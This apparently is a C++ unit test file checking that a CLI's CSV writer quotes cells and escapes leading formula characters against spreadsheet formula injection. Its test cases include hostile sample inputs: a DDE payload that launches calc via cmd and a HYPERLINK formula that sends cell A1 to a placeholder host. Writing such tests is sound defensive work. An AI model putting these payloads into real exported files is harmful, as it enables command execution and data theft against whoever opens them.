#include "controlplane/cli/csv.h"

#include <catch2/catch_all.hpp>
#include <string>

namespace spillway::cli {
namespace {

TEST_CASE("CSV cells are quoted where they must be, and no spreadsheet runs one") {
  struct Case {
    const char* name;
    std::string text;
    const char* want;
  };
  const Case kCases[] = {
      {"plain", "support", "support"},
      {"empty", "", ""},
      {"number", "1234", "1234"},
      {"negative money", "-0.25", "-0.25"},
      {"comma", "a,b", "\"a,b\""},
      {"quote", "say \"hi\"", R"("say ""hi""")"},
      {"lines", "a\r\nb", "\"a\r\nb\""},
      {"formula", "=1+1", "'=1+1"},
      {"plus", "+1+1", "'+1+1"},
      {"minus that is no number", "-1+cmd", "'-1+cmd"},
      {"at", "@SUM(A1)", "'@SUM(A1)"},
      {"tab", "\t=1", "\"'\t'=1\""},
      {"carriage return", "\r=1", "\"'\r'=1\""},
      {"behind spaces", "  =1", "\"  '=1\""},
      {"behind a quote", "\"=1", R"("""'=1")"},
      {"behind another locale's separator", "a;=cmd|' /C calc'!A0", "\"a;'=cmd|' /C calc'!A0\""},
      {"behind a comma", "a,@x", "\"a,'@x\""},
      {"a link", R"(=HYPERLINK("http://x.test?"&A1))",
       "\"'=HYPERLINK(\"\"http://x.test?\"\"&A1)\""},
      {"an equals sign inside", "a=b", "a=b"},
      {"not ASCII", "Zürich", "Zürich"},
      {"looks like a number", "1.2.3", "1.2.3"},
  };
  for (const Case& test : kCases) {
    DYNAMIC_SECTION(test.name) { CHECK(CsvCell(test.text) == test.want); }
  }
}

TEST_CASE("numbers are digits with a point at most") {
  for (const char* text : {"0", "12", "-3", "0.25", "-0.5"}) CHECK(IsNumber(text));
  for (const char* text : {"", "-", ".", "1.", ".5", "1e5", "+1", "1,0", "0x1", "--1", "-.5"})
    CHECK_FALSE(IsNumber(text));
}

TEST_CASE("rows end as RFC 4180 says") {
  Csv csv({"team", "cost"});
  csv.Row({"a,b", "1.5"});
  CHECK(csv.text() == "team,cost\r\n\"a,b\",1.5\r\n");
}

}  // namespace
}  // namespace spillway::cli
